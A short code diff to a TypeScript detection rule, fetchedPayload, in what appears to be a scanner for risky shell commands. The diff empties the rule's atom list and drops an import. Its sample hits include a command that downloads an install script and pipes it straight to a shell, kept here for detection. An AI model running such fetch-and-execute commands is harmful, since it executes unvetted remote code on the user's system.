@@ -1,4 +1,3 @@
-import { FETCHING_ATOMS } from '../engine/cues.ts';
 import type { JobView } from '../engine/job-view.ts';
 import type { Match, Rule } from '../engine/rule.ts';
 import { WEIGHTS } from '../engine/weights.ts';
@@ -13,7 +12,8 @@ export const fetchedPayload: Rule = {
   confidence: 'low',
   maturity: 'stable',
   group: 'delivery',
-  atoms: FETCHING_ATOMS,
+  // The cues of the sweep find what it looks at.
+  atoms: [],
   hits: [
     { what: 'piped to a shell', script: 'curl -sSf https://get.example.com/install.sh | sh' },
     {
